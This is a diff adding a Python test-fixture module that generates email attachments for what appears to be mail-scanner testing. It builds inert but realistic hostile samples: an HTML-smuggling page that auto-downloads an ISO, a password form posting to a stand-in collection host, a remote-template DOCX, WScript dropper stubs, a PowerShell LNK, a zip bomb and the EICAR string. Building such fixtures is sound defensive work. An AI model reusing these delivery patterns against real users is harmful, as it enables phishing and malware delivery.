@@ -1,0 +1,196 @@
+"""Builds the files that samples attach, from short expressions: `zip(a.exe=exe, b.zip=zip(c.js=script))`.
+
+Everything is made here, so that no file in the repository is one that a scanner would stop.
+"""
+
+import base64
+import bz2
+import gzip
+import io
+import lzma
+import tarfile
+import zipfile
+from collections.abc import Callable
+
+import pikepdf
+import py7zr
+
+EICAR = "".join(("X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR-STANDARD-", "ANTIVIRUS-TEST-FILE!$H+H*"))
+CRLF = b"\r\n"
+
+
+def build(expression: str) -> bytes:
+    """The bytes an expression describes."""
+    name, _, rest = expression.partition("(")
+    inside = rest[:-1] if rest.endswith(")") else ""
+    if name in CONTAINERS:
+        entries = [tuple(piece.strip() for piece in item.split("=", 1)) for item in _split(inside)]
+        return CONTAINERS[name]([(entry[0], build(entry[1])) for entry in entries])
+    if name == "qr":
+        return _qr(inside)
+    return FILES[name](inside)
+
+
+def with_attachments(raw: bytes, attachments: list[tuple[str, str]]) -> bytes:
+    """The message with these files attached; its own body becomes the first part."""
+    if not attachments:
+        return raw
+    header, _, body = raw.partition(CRLF + CRLF)
+    lines = [line for line in header.split(CRLF) if not line.lower().startswith(b"content-type:")]
+    kind = next((line for line in header.split(CRLF) if line.lower().startswith(b"content-type:")), None)
+    kind = kind or b"Content-Type: text/plain; charset=utf-8"
+    pieces = [CRLF.join([*lines, b"MIME-Version: 1.0", b'Content-Type: multipart/mixed; boundary="sample"', b""])]
+    pieces.append(CRLF.join([b"--sample", kind, b"Content-Transfer-Encoding: 8bit", b"", body]))
+    for name, expression in attachments:
+        declared = b"image/png" if name.endswith(".png") else b"application/octet-stream"
+        head = [b"--sample", b"Content-Type: " + declared, b"Content-Transfer-Encoding: base64"]
+        head.append(b"Content-Disposition: attachment; filename*=utf-8''" + _percent(name))
+        pieces.append(CRLF.join([*head, b"", base64.encodebytes(build(expression)).replace(b"\n", CRLF)]))
+    return CRLF.join([*pieces, b"--sample--", b""])
+
+
+def _percent(name: str) -> bytes:
+    kept = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789.-_"
+    return b"".join(bytes([byte]) if byte in kept else b"%%%02X" % byte for byte in name.encode())
+
+
+def _split(text: str) -> list[str]:
+    """At commas outside of parentheses."""
+    items, depth, start = [], 0, 0
+    for place, letter in enumerate(text):
+        depth += (letter == "(") - (letter == ")")
+        if letter == "," and depth == 0:
+            items.append(text[start:place])
+            start = place + 1
+    return [item for item in (*items, text[start:]) if item.strip()]
+
+
+Entries = list[tuple[str, bytes]]
+
+
+def _zip(entries: Entries) -> bytes:
+    stream = io.BytesIO()
+    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, content in entries:
+            archive.writestr(name, content)
+    return stream.getvalue()
+
+
+def _locked_zip(entries: Entries) -> bytes:
+    """A ZIP whose entries say that they are encrypted (bit 0 of the general purpose flags, in both headers)."""
+    data = bytearray(_zip(entries))
+    for magic, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
+        place = data.find(magic)
+        while place >= 0:
+            data[place + offset] |= 1
+            place = data.find(magic, place + 4)
+    return bytes(data)
+
+
+def _tar(entries: Entries) -> bytes:
+    stream = io.BytesIO()
+    with tarfile.open(fileobj=stream, mode="w") as archive:
+        for name, content in entries:
+            item = tarfile.TarInfo(name)
+            item.size = len(content)
+            archive.addfile(item, io.BytesIO(content))
+    return stream.getvalue()
+
+
+def _seven_zip(entries: Entries, password: str | None = None) -> bytes:
+    stream = io.BytesIO()
+    with py7zr.SevenZipFile(stream, "w", password=password) as archive:
+        for name, content in entries:
+            archive.writestr(content, name)
+    return stream.getvalue()
+
+
+def _docx(entries: Entries) -> bytes:
+    types = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
+    document = b"<?xml version='1.0'?><w:document><w:body/></w:document>"
+    given = dict(entries)
+    return _zip([("[Content_Types].xml", types), ("word/document.xml", given.pop("word/document.xml", document)),
+                 *given.items()])  # fmt: skip
+
+
+def _pdf(action: str) -> bytes:
+    document = pikepdf.new()
+    document.add_blank_page()
+    if action.startswith("embed "):
+        document.attachments[action.removeprefix("embed ")] = b"MZ" + b"\0" * 200
+    elif action.startswith("uri "):
+        entry = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(action.removeprefix("uri ")))
+        document.Root.OpenAction = document.make_indirect(entry)
+    elif action:
+        entry = pikepdf.Dictionary(S=pikepdf.Name("/" + action))
+        document.Root.OpenAction = document.make_indirect(entry)
+    stream = io.BytesIO()
+    password = pikepdf.Encryption(user="secret", owner="secret") if action == "locked" else None
+    document.save(stream, encryption=password or False)
+    return stream.getvalue()
+
+
+def _qr(text: str) -> bytes:
+    import segno
+
+    stream = io.BytesIO()
+    segno.make(text, error="m").save(stream, kind="png", scale=4, border=4)
+    return stream.getvalue()
+
+
+def _iso(_: str) -> bytes:
+    return b"\0" * 0x8001 + b"CD001\x01" + b"\0" * 4000
+
+
+def _lnk(_: str) -> bytes:
+    head = b"\x4c\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46"
+    return head + b"\0" * 60 + "C:\\Windows\\System32\\powershell.exe".encode("utf-16-le")
+
+
+SMUGGLER = (
+    "<html><body><script>var d='" + "QUJD" * 500 + "';var b=new Blob([atob(d)]);"
+    "var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='invoice.iso';a.click()"
+    "</script></body></html>"
+)
+REMOTE_TEMPLATE = (
+    '<?xml version="1.0"?><Relationships><Relationship Id="rId1" '
+    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+    'Target="http://templates.example/a.dotm" TargetMode="External"/></Relationships>'
+)
+
+FILES: dict[str, Callable[[str], bytes]] = {
+    "text": lambda text: text.encode(),
+    "eicar": lambda _: EICAR.encode(),
+    "exe": lambda _: b"MZ\x90\x00\x03" + b"\0" * 200 + b"PE\0\0" + b"\0" * 100,
+    "script": lambda _: b"var shell = new ActiveXObject('WScript.Shell');\r\nshell.Run('calc');\r\n",
+    "dropper": lambda _: (
+        b"var s=new ActiveXObject('WScript.Shell');var x=new ActiveXObject('MSXML2.XMLHTTP');s.Run('a.exe');"
+    ),
+    "iso": _iso,
+    "lnk": _lnk,
+    "onenote": lambda _: b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3" + b"\0" * 100,
+    "hta": lambda _: b"<html><hta:application id=x><script language=vbscript></script></html>",
+    "png": lambda _: _qr("no link here, only words"),
+    "picture": lambda _: b"\x89PNG\r\n\x1a\n" + b"\0" * 64,
+    "pdf": _pdf,
+    "smuggler": lambda _: SMUGGLER.encode(),
+    "login": lambda _: (
+        b"<html><body><form action='https://collect.example/p.php'><input type=password name=p></form></body></html>"
+    ),
+    "report": lambda _: b"<html><body><h1>Sales in March</h1><table><tr><td>12</td></tr></table></body></html>",
+    "template": lambda _: _docx([("word/_rels/settings.xml.rels", REMOTE_TEMPLATE.encode())]),
+    "rar": lambda _: b"Rar!\x1a\x07\x01\x00" + b"\0" * 60,
+    "arj": lambda _: b"\x60\xea" + b"\0" * 60,
+    "bomb": lambda _: _zip([("zeros.bin", b"\0" * 60_000_000)]),
+}
+CONTAINERS: dict[str, Callable[[Entries], bytes]] = {
+    "zip": _zip,
+    "locked-zip": _locked_zip,
+    "tar": _tar,
+    "7z": _seven_zip,
+    "locked-7z": lambda entries: _seven_zip(entries, "secret"),
+    "docx": _docx,
+    "gz": lambda entries: gzip.compress(entries[0][1]),
+    "bz2": lambda entries: bz2.compress(entries[0][1]),
+    "xz": lambda entries: lzma.compress(entries[0][1]),
+}
